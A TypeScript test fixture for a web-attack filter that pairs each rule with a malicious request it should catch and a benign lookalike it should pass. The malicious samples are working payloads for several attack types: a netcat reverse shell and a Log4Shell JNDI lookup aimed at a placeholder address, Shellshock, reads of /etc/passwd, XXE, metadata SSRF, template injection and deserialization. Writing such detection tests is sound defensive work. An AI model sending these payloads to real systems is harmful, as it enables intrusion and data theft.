// For each rule of generic-attacks.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { form, get, json, xml } from './sample-requests.cases.ts'

export const GENERIC_ATTACKS_SAMPLES: RuleSamples = {
  '970f1b91de084e1ae2a026dde7843253': {
    matching: get('/ping?host=192.0.2.1;id'),
    passing: get('/search?q=bed;+bath+%26+beyond'),
  },
  a8d0ac92313f8060f40683cbcacabfd6: {
    matching: get('/ping?host=$(whoami).example.com'),
    passing: json('/posts', '{"text":"press `enter`, then read $(total) and `list`"}'),
  },
  c37a6f3e4ced3042c4ba224e3fe6f671: {
    matching: get('/view?f=|/bin/c?t /e*c/passwd'),
    passing: get('/view?f=/usr/share/doc'),
  },
  '1c14394d3febf40bc86931c2b01e9292': {
    matching: get('/ping?host=1|nc -e /bin/sh 192.0.2.66 4444'),
    passing: get('/search?q=nc+license+plate'),
  },
  a94ca85435666782f83b416bc9a46043: {
    matching: get('/ping?host=192.0.2.1%26cmd.exe%20/c%20dir%20c:'),
    passing: get('/search?q=type+c+cable'),
  },
  e4f09a5893a21d2af27386508e0b8b12: {
    matching: get('/cgi-bin/status', { referer: '() { :; }; echo; /bin/id' }),
    passing: get('/docs?q=function() { return 1 }'),
  },
  '04349894aaacbdeb87ceefd0fde77347': {
    matching: form('/x.php', 'v=%3C%3Fphp+echo+1%3B'),
    passing: xml('/x', '<?xml version="1.0"?><a/>'),
  },
  '1065bbeb9846b4729981786b91bd3d92': {
    matching: form('/x.php', "c=system('id');"),
    passing: json('/posts', '{"text":"the system (see chapter 2); include (or not) the rest"}'),
  },
  c734a63db68093e3a20601d4673a4309: {
    matching: get('/?p=php://filter/read=string.rot13/resource=index.php'),
    passing: get('/?p=https://example.com/php/filter'),
  },
  '76f9025b9089fb4faa037af55e61df58': {
    matching: { headers: { cookie: 'data=O%3A8%3A%22Example1%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D' } },
    passing: { headers: { cookie: 'data=a%3A1%3A%7Bi%3A0%3Bs%3A1%3A%22a%22%3B%7D' } },
  },
  '40e6d2dfeb43c953f90779af8abf77f0': {
    matching: json('/api', '{"x":"T(java.lang.Runtime).getRuntime().exec(\\"id\\")"}'),
    passing: json('/api', '{"text":"Java, the language, runs in a runtime"}'),
  },
  '7dcd26a56106c9a8dd78f229b1116dd3': {
    matching: { headers: { cookie: 'session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' } },
    passing: { headers: { cookie: 'session=rO0kDkLsABXNy' } },
  },
  ea6b220b879c8538add07717d0a552e3: {
    matching: get('/index.action?redirect:%24%7B%23context%5B%22x%22%5D%7D'),
    passing: get('/render?t=Dear+%24%7Bname%7D,+%23%7Border%7D'),
  },
  c4cd5d5b424b4ec5054ae47d9491a667: {
    matching: get("/hello?name={{''.__class__.__mro__[1].__subclasses__()}}"),
    passing: get('/hello?name={{first_name}}'),
  },
  dd3e41aa0a9c508cd9600c82e048d3ac: {
    matching: get('/hello?name={{7*7}}'),
    passing: get('/hello?name={{7}}'),
  },
  '370c764d0273e306ea1a544dabdd9923': {
    matching: json('/api', `{"x":"require('child_process').exec('id')"}`),
    passing: json('/api', '{"text":"we require (by law) a process"}'),
  },
  '7014597266218e168fe2f5671363010d': {
    matching: json('/api', '{"__proto__":{"isAdmin":true}}'),
    passing: json('/api', '{"prototype":{"constructor":"A"}}'),
  },
  d8260248b1e9c535c2663c0d5f760a6a: {
    matching: form('/login', 'user[$ne]=1&password[$ne]=1'),
    passing: form('/prices', 'amount[usd]=4&$filter=cheap'),
  },
  a9343ffaab07d0d1b39b8ffdc3810008: {
    matching: get("/login?user=admin'||this.password.length>0||'"),
    passing: json('/posts', '{"text":"this.name || that.name"}'),
  },
  '295206eb237ddadf7273c7ca679e3f41': {
    matching: get('/people?name=*)(uid=*))(|(uid=*'),
    passing: get('/people?name=Bell+(Alexander)+(born=1847)'),
  },
  '1525e3684a4f2ae84cc45a6eb9297c92': {
    matching: get("/people?name='+or+count(/child::node())=1+or+'"),
    passing: get('/people?name=count+//+baron'),
  },
  '85e7d563ef58937d01461a8238c2a199': {
    matching: get('/guest?text=%3C!--%23exec%20cmd=%22id%22--%3E'),
    passing: get('/guest?text=%3C!--+note+--%3E'),
  },
  '57b12f0f86f383c1cdbb83cf7e457c10': {
    matching: xml(
      '/api',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
    ),
    passing: xml('/api', '<?xml version="1.0"?><!DOCTYPE html><html lang="en"></html>'),
  },
  '878438724bba3c9f34d8d796e9c6f787': {
    matching: get('/fetch?url=http://169.254.169.254/latest/meta-data/'),
    passing: get('/fetch?url=https://www.example.com/latest/data'),
  },
  '39f392857fd14c50087c2d1c4a984106': {
    matching: form('/contact', 'name=a%0d%0aBcc:%20x@example.com'),
    passing: form('/contact', 'name=a&text=Hello%0d%0aSubject:%20matters'),
  },
  '3846107d429d7eb527f67b4c99270675': {
    matching: get('/go?to=/a%0d%0aLocation:%20//192.0.2.66'),
    passing: form('/posts', 'text=Where%3F%0ALocation+of+the+place'),
  },
  '9ad78fceb8549be2ca41932707829d1a': {
    matching: get('/?q=%3Cmeta%20http-equiv=Set-Cookie%20content=sid=1%3E'),
    passing: get('/?q=cookie+recipes'),
  },
  '1439f87efac3febc7a4e5ca5ae34316f': {
    matching: get('/', { referer: '${${env:X:-j}ndi:ldap://192.0.2.66/a}' }),
    passing: get('/', { referer: 'https://www.example.com/?t=${name}' }),
  },
  '2e47c9e3b1f420994337e650d1f8a285': {
    matching: {
      method: 'POST',
      target: '/api',
      headers: { 'content-type': 'text/yaml' },
      body: 'a: !!python/object/apply:os.system ["id"]',
    },
    passing: json('/posts', '{"text":"Python objects and Ruby hashes"}'),
  },
  '2bd22be54f45e51940dc5390c0fefcec': {
    matching: json('/api', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}'),
    passing: json('/api', '{"type":"System of a town"}'),
  },
  ffcb7000356a535bb12c5a2fee68dfba: {
    matching: json('/graphql', '{"query":"{ __schema { types { name } } }"}'),
    passing: json('/graphql', '{"query":"{ item(id: 1) { __typename name } }"}'),
  },
  '3bd2e1d3ddf03d390ac885256a02b890': {
    matching: get('/x?y=a;ls'),
    passing: get('/x?y=a;b'),
  },
  de952379e115166ac9f625e7389786dd: {
    matching: get('/?x=file:///etc/passwd'),
    passing: get('/?x=/etc/papers'),
  },
  c01a079c3de7123beaacb31775a1a324: {
    matching: get('/cgi-bin/show.pl?file=|id|'),
    passing: get('/cgi-bin/show.pl?file=a|b'),
  },
}
